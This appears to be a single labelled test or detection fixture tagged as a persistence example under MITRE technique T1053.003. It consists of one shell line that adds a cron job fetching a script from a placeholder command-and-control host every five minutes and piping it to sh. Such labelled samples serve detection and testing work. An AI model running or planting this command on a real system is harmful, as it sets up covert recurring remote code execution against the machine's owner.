# expect: persistence | source: T1053.003
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://c2.example.invalid/i | sh") | crontab -
